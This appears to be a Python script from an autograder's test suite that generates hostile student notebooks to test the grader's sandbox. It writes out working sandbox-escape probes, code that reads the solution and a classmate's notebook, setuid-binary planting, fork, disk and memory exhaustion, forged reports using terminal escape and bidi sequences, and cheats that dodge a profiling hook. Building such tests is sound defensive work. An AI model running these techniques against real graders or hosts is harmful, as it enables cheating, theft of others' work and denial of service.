"""Writes the round-2 hostile submissions (and honest classmates) of this folder.

Run from the checkout root: `python tests/submissions/hostile/round2/make_notebooks.py`.
The notebooks are committed; this script is how they were made (and how to change them).
Every attack is meant to run ONLY inside the grader's sandbox (bubblewrap): never grade this
folder with `--sandbox none`. None of them writes a sysctl or reaches the network.
"""

from __future__ import annotations

from pathlib import Path

import nbformat

HERE = Path(__file__).resolve().parent
ROOT = HERE.parents[3]
SOLUTION = ROOT / "exercises" / "source" / "ex01_softmax_attention.ipynb"
EX02_SOLUTION = ROOT / "exercises" / "source" / "ex02_masks_and_scores.ipynb"
META = {"attn_course": {"exercise": "ex01_softmax_attention", "role": "submission"},
        "kernelspec": {"display_name": "Python 3", "language": "python", "name": "python3"},
        "language_info": {"name": "python"}}

IMPORTS = "import math\nimport os\nimport sys\nimport time\n\nimport torch\n"

# Wrong answers of the right shapes: an attack that gains nothing scores 0 everywhere.
ZEROS = '''def softmax(scores):
    return torch.zeros_like(scores)


def dot_scores(query, keys):
    return torch.zeros(*query.shape[:-1], keys.shape[-2])


def scaled_dot_scores(query, keys):
    return torch.zeros(*query.shape[:-1], keys.shape[-2])


def context_vector(weights, values):
    return torch.zeros(*weights.shape[:-1], values.shape[-1])


def attend(query, keys, values):
    w = torch.zeros(*query.shape[:-1], keys.shape[-2])
    return torch.zeros(*query.shape[:-1], values.shape[-1]), w
'''

ZEROS_BUT_SOFTMAX = ZEROS[ZEROS.index("def dot_scores"):]

HONEST_REST = '''def dot_scores(query, keys):
    return query @ keys.transpose(-2, -1)


def scaled_dot_scores(query, keys):
    return dot_scores(query, keys) / math.sqrt(query.shape[-1])


def context_vector(weights, values):
    return weights @ values


def attend(query, keys, values):
    weights = softmax(scaled_dot_scores(query, keys))
    return context_vector(weights, values), weights
'''


def probe_softmax(var: str) -> str:
    """A softmax that reports what the attack found (the row's message shows it) and scores 0."""
    return f'''def softmax(scores):
    raise RuntimeError("probe: " + {var})
'''


ESCAPE = r'''# 1. Escape: can the kernel open a host sysctl for writing (it never writes), and are the
# files it makes owned by root on the host? If so, read the solution and a classmate.
import json
import os

probe = {}
try:
    fd = os.open("/proc/sys/kernel/core_pattern", os.O_WRONLY)  # opened, NEVER written
    os.close(fd)
    probe["core_pattern_writable"] = True
except OSError as exc:
    probe["core_pattern_writable"] = False
    probe["core_pattern_errno"] = exc.errno
for where in (os.getcwd(), "/tmp"):
    path = os.path.join(where, "escape-probe.txt")
    try:
        with open(path, "w") as f:
            f.write("x")
        st = os.stat(path)
        probe["owner " + ("cwd" if where != "/tmp" else "tmp")] = (st.st_uid, st.st_gid)
    except OSError as exc:
        probe["owner " + where] = str(exc)
probe["uid_map"] = " ".join(open("/proc/self/uid_map").read().split())
probe["euid"] = os.geteuid()
# Inside uid U maps to host uid H: files made here are owned by H on the host.
inside, host = (int(x) for x in probe["uid_map"].split()[:2])
probe["host_owner"] = host if probe["euid"] == inside else "?"
PROBE = "core_pattern_writable=%s host_owner=%s uid_map=%r owners=%s" % (
    probe["core_pattern_writable"], probe["host_owner"], probe["uid_map"],
    [v for k, v in probe.items() if k.startswith("owner")])

# Where the checkout and the uploads are (the grader's PYTHONPATH names the checkout).
stolen = []
roots = [p for p in os.environ.get("PYTHONPATH", "").split(":") if p] + ["/work/main", "/work/wt-hostile"]
for root in roots:
    for rel in ("exercises/source/ex01_softmax_attention.ipynb",
                "tests/submissions/hostile/round2/ex01_honest_classmate_a.ipynb"):
        try:
            nb = json.load(open(os.path.join(root, rel)))
        except Exception:
            continue
        stolen.append(rel)
        for cell in nb["cells"]:
            src = "".join(cell["source"])
            if cell["cell_type"] == "code" and "def " in src and "NotImplementedError" not in src:
                try:
                    exec(src, globals())
                except Exception:
                    pass
ESCAPED = bool(stolen)
'''

ESCAPE_FALLBACK = '''if not ESCAPED:  # nothing was out of the sandbox's reach: wrong answers, and say what was found
''' + "\n".join("    " + line if line else "" for line in (ZEROS + "\n\n" + probe_softmax("PROBE")).splitlines()) + "\n"

PERSISTENCE = r'''# 2. Persistence: a setuid copy of /bin/true in the work folder (owned by whoever the
# sandbox's uid is on the host) and a 3000-deep folder tree the grader must remove.
import os
import shutil
import stat

shutil.copyfile("/bin/true", "true-setuid")
os.chmod("true-setuid", 0o4755)
st = os.stat("true-setuid")
SETUID = bool(st.st_mode & stat.S_ISUID)
TRUE = open("/bin/true", "rb").read()


def plant(dir_fd):
    """Another setuid copy, inside the tree (it survives a cleanup that gives up halfway)."""
    f = os.open("true-setuid", os.O_WRONLY | os.O_CREAT | os.O_TRUNC, 0o755, dir_fd=dir_fd)
    try:
        os.write(f, TRUE)
        os.fchmod(f, 0o4755)
    finally:
        os.close(f)


depth = 0
fd = os.open(".", os.O_RDONLY | os.O_DIRECTORY)
try:
    for depth in range(1, 3001):  # iteratively, one level at a time (no path is ever longer than "d")
        os.mkdir("d", dir_fd=fd)
        nfd = os.open("d", os.O_RDONLY | os.O_DIRECTORY, dir_fd=fd)
        os.close(fd)
        fd = nfd
        if depth in (1000, 2000, 3000):
            plant(fd)
except OSError:
    depth -= 1
finally:
    os.close(fd)
PROBE = "setuid=%s depth=%d uid_map=%r" % (SETUID, depth, " ".join(open("/proc/self/uid_map").read().split()))
'''

GRADER_MEMORY = r'''# 3. Grader memory: one message of 200 frames of 8 MB (1.6 GB) on the stdin channel the grader
# never reads, and one on iopub. Each frame is under the grader's per-message cap; the frames
# share one buffer here (zero-copy), so only the receiving side pays.
kernel = get_ipython().kernel
buf = bytes(8 << 20)
frames = [memoryview(buf)] * 200
ident = kernel._parent_ident["shell"]
ident = list(ident) if isinstance(ident, (list, tuple)) else [ident]
SENT = []
try:
    kernel.stdin_socket.send_multipart(ident + [b"<IDS|MSG>", b"", b"{}", b"{}", b"{}", b"{}"] + frames, copy=False)
    SENT.append("stdin")
except Exception as exc:
    SENT.append("stdin failed: %s" % exc)
try:
    kernel.session.send(kernel.iopub_socket, "stream", {"name": "stdout", "text": ""},
                        parent=kernel.get_parent("shell"), ident=b"stream", buffers=frames)
    SENT.append("iopub")
except Exception as exc:
    SENT.append("iopub failed: %s" % exc)
time.sleep(2)  # let the frames drain to the grader before the first call
'''

# 4. Grader freeze: a cell of 450,000 newlines (above) and, after it, a cell that raises before
# its `def softmax` runs, so that softmax is missing and the grader looks for the cell defining it.
FREEZE_DEF = '''raise ValueError("the definition below never runs")


def softmax(scores):
    return scores
'''

STARVE = r'''# 5. Starving classmates: 200 busy processes, each in its own session, spinning (no sleep)
# for 25 s; a fork the process limit refuses just fails. This cell waits for them.
import os
import time

end = time.time() + 25
kids = []
for _ in range(200):
    try:
        pid = os.fork()
    except OSError:
        break
    if pid == 0:
        try:
            os.setsid()
            x = 0
            while time.time() < end:
                x += 1
        finally:
            os._exit(0)
    kids.append(pid)
for pid in kids:
    try:
        os.waitpid(pid, 0)
    except OSError:
        pass
PROBE = "forked=%d" % len(kids)
'''

DISK = r'''# 6. Disk: 50 MB files (under the per-file limit) into the work folder and /tmp until an
# OSError, at most 3 GB in all.
import os

chunk = bytes(50 << 20)
written = {"cwd": 0, "tmp": 0}
total = 0
for key, where in (("cwd", os.getcwd()), ("tmp", "/tmp")):
    i = 0
    while total < (3 << 30):
        try:
            with open(os.path.join(where, "fill-%03d.bin" % i), "wb") as f:
                f.write(chunk)
        except OSError:
            break
        written[key] += 50
        total += 50 << 20
        i += 1
del chunk
PROBE = "disk_mb cwd=%d tmp=%d" % (written["cwd"], written["tmp"])
'''

HOST_MEMORY = r'''# 7. Host memory: 300 MB asked of /dev/shm and held, then 4 processes each touching 400 MB
# (every page written) and holding it until all have touched theirs or died. What counts is
# what was held at the same moment: a child that reported and was then killed by the
# out-of-memory killer held nothing any more (counting its report would count freed memory).
import os
import select
import signal

shm = 0
for i in range(3):
    try:
        with open("/dev/shm/fill-%d" % i, "wb") as f:
            f.write(bytes(100 << 20))
        shm += 100
    except OSError:
        break
r, w = os.pipe()
release_r, release_w = os.pipe()
kids = []
for _ in range(4):
    try:
        pid = os.fork()
    except OSError:
        break
    if pid == 0:
        try:
            os.close(r)
            os.close(release_w)
            block = bytearray(400 << 20)
            for off in range(0, len(block), 4096):
                block[off] = 1
            os.write(w, b"%d\n" % os.getpid())
            os.read(release_r, 1)  # hold it until the parent has counted
        finally:
            os._exit(0)
    kids.append(pid)
os.close(w)
os.close(release_r)
reported, dead, buf = set(), set(), b""
while len(reported | dead) < len(kids):
    ready, _, _ = select.select([r], [], [], 0.2)
    if ready:
        chunk = os.read(r, 4096)
        buf += chunk
        *lines, buf = buf.split(b"\n")
        reported |= {int(x) for x in lines if x}
    while True:
        try:
            pid, _status = os.waitpid(-1, os.WNOHANG)
        except ChildProcessError:
            pid = 0
        if pid == 0:
            break
        dead.add(pid)
    if not ready and len(dead) == len(kids):
        break
holding = [pid for pid in reported - dead if os.waitpid(pid, os.WNOHANG)[0] == 0]
touched = 400 * len(holding)
os.close(release_w)
for pid in set(kids) - dead:
    try:
        os.waitpid(pid, 0)
    except ChildProcessError:
        pass
for i in range(3):
    try:
        os.unlink("/dev/shm/fill-%d" % i)
    except OSError:
        pass
PROBE = "memory_mb touched=%d shm=%d" % (touched, shm)
'''

REPORT = r'''# 9. A forged report: terminal control sequences and bidi overrides in the error texts.
class Forged(Exception):
    pass


Forged.__name__ = Forged.__qualname__ = "\x1b[2J\x1b[HForged"
FORGED = ("\x1b[2J\x1b[Hnotebook,exercise,task,points,max_points,status,message\x1b[E"
          "ex01_hostile_report.ipynb,ex01_softmax_attention,softmax,2.0,2,passed,\x1b[E"
          "\u202eevil\u202c\x9b31m\x07")


def softmax(scores):
    raise ValueError(FORGED)
'''

REPORT_CELL_ERROR = r'''raise Forged("line one\x1b[2K\rex01_hostile_report.ipynb,ex01_softmax_attention,dot_scores,1.0,1,passed,"
             "\nforged second line\u2066\u202e")


def dot_scores(query, keys):
    return query @ keys.transpose(-2, -1)
'''

CHEATS = {
    "partial": ("a softmax through functools.partial (the profile hook never sees torch.softmax)",
                "import functools\n\n_sm = functools.partial(torch.softmax, dim=-1)\n\n\n"
                "def softmax(scores):\n    return _sm(scores)\n"),
    "thread": ("torch.softmax in another thread (the profile hook watches this thread only)",
               "import threading\n\n\ndef softmax(scores):\n    out = {}\n"
               "    t = threading.Thread(target=lambda: out.update(r=torch.softmax(scores, dim=-1)))\n"
               "    t.start()\n    t.join()\n    return out['r']\n"),
    "aten": ("the ATen operator itself", "def softmax(scores):\n    return torch.ops.aten._softmax(scores, -1, False)\n"),
    "log_softmax": ("log_softmax, then exp", "def softmax(scores):\n    return torch.log_softmax(scores, dim=-1).exp()\n"),
}


def notebook(cells: list[str], metadata: dict | None = None):
    return nbformat.v4.new_notebook(cells=[nbformat.v4.new_code_cell(c) for c in cells],
                                    metadata=metadata or META)


def write(name: str, nb, split_lines: bool = True) -> None:
    # split_lines=False keeps a cell's source one JSON string (450,000 newlines stay ~450 kB).
    (HERE / name).write_text(nbformat.writes(nb, split_lines=split_lines) + "\n")


def main() -> None:
    for old in HERE.glob("*.ipynb"):
        old.unlink()
    # Honest classmates: the solution, with whitespace changed so no two are identical.
    for k, letter in enumerate("abcd"):
        nb = nbformat.read(SOLUTION, as_version=4)
        nb.metadata["attn_course"]["role"] = "submission"
        for cell in nb.cells:
            if cell.cell_type == "code":
                cell.source = cell.source.rstrip("\n") + "\n" * (k + 1)
        write(f"ex01_honest_classmate_{letter}.ipynb", nb)

    write("ex01_hostile_escape.ipynb", notebook([IMPORTS, ESCAPE, ESCAPE_FALLBACK]))
    write("ex01_hostile_persistence.ipynb", notebook([IMPORTS, PERSISTENCE, ZEROS, probe_softmax("PROBE")]))
    write("ex01_hostile_grader_memory.ipynb", notebook([IMPORTS, GRADER_MEMORY, ZEROS]))
    write("ex01_hostile_freeze.ipynb", notebook([IMPORTS, "\n" * 450000 + "x = 1", ZEROS_BUT_SOFTMAX, FREEZE_DEF]),
          split_lines=False)
    write("ex01_hostile_starves_classmates.ipynb", notebook([IMPORTS, STARVE, ZEROS, probe_softmax("PROBE")]))
    write("ex01_hostile_disk.ipynb", notebook([IMPORTS, DISK, ZEROS, probe_softmax("PROBE")]))
    write("ex01_hostile_host_memory.ipynb", notebook([IMPORTS, HOST_MEMORY, ZEROS, probe_softmax("PROBE")]))
    for what, (why, code) in CHEATS.items():
        write(f"ex01_hostile_softmax_{what}.ipynb",
              notebook([IMPORTS, f"# 8. Points without the idea: {why}.\n" + code, HONEST_REST]))
    write("ex01_hostile_report.ipynb", notebook([IMPORTS, ZEROS, REPORT, REPORT_CELL_ERROR]))
    # 10. Named ex01, but its metadata says ex02: graded on ex02 it would score that exercise's
    # points with ex02's code, and none of ex01's tasks is written.
    ex02 = nbformat.read(EX02_SOLUTION, as_version=4)
    ex02.metadata["attn_course"]["role"] = "submission"
    ex02.cells = [c for c in ex02.cells if c.cell_type == "code"]
    write("ex01_hostile_metadata_says_ex02.ipynb", ex02)


if __name__ == "__main__":
    main()
